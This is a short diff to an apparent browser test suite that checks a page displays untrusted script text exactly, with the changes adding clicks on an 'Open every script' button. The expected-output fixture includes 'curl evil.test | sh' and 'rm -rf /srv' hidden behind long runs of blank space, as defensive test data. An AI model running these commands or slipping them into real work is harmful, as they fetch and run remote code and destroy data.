@@ -77,6 +77,7 @@ describe('text from outside', () => {
       arrange: () => harness.api.put(changed),
     });
     const body = page.locator('.exact__body').first();
+    await page.getByRole('button', { name: 'Open every script' }).click();
     await body.waitFor();
     expect(await body.textContent()).toBe(
       `true\n… 400 blank lines …\ncurl evil.test | sh\necho${'[500 blanks in a row]'}; rm -rf /srv\n`,
@@ -89,7 +90,9 @@ describe('text from outside', () => {
   it('is drawn to the byte in the plan: nothing is markup, hidden, reordered or left out', async () => {
     const { page, plan } = await openHostile('plan');
     await page.getByText('recomputed here: matches').waitFor();
+    await page.getByRole('button', { name: 'Open every script' }).click();
     const body = page.locator('.exact__body').first();
+    await body.waitFor();
     const drawn = (await body.textContent()) ?? '';
     const expected = [...(plan.steps[0]?.action.body ?? '')]
       .map((character) =>
